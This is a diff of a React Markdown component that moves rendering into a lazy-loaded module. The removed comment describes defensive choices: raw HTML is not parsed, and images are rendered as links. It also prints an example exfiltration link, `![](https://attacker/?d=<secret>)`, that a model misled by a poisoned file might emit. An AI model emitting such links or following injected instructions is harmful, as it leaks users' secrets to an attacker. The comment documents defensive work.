@@ -1,41 +1,16 @@
-import { memo } from 'react';
-import ReactMarkdown from 'react-markdown';
+import { lazy, memo, Suspense } from 'react';
 
-// react-markdown builds React elements from the Markdown AST and, without rehype-raw, renders
-// any raw HTML in the model's text as literal text: nothing the model writes is ever parsed as
-// HTML or run. Its default urlTransform also drops `javascript:` and other unsafe URLs.
-// Images are shown as links, never loaded: a model led on by a poisoned file could otherwise
-// make the page fetch `![](https://attacker/?d=<secret>)` with no click (the CSP blocks it too).
+// react-markdown and its parser are a third of the app's script. Loaded with the page, their parse
+// made the cold first open of a project one long task (issue 14's tree bench: 55 ms); loaded on
+// their own, the page shows sooner and a message renders a moment later, as its plain text first.
+export const loadMarkdown = () => import('./MarkdownView');
+
+const MarkdownView = lazy(() => loadMarkdown().then((m) => ({ default: m.MarkdownView })));
+
 export const Markdown = memo(function Markdown({ text }: { text: string }) {
   return (
-    <div className="markdown">
-      <ReactMarkdown
-        skipHtml={false}
-        components={{
-          a: ({ href, children }) => (
-            <a href={href} target="_blank" rel="noopener noreferrer nofollow">
-              {children}
-            </a>
-          ),
-          img: ({ src, alt }) =>
-            src ? (
-              <a
-                className="md-image-link"
-                href={src}
-                target="_blank"
-                rel="noopener noreferrer nofollow"
-                title="Image not loaded: open it in a new tab"
-                data-testid="image-link"
-              >
-                🖼 {alt || src}
-              </a>
-            ) : (
-              <span>🖼 {alt}</span>
-            ),
-        }}
-      >
-        {text}
-      </ReactMarkdown>
-    </div>
+    <Suspense fallback={<div className="markdown markdown-pending">{text}</div>}>
+      <MarkdownView text={text} />
+    </Suspense>
   );
 });
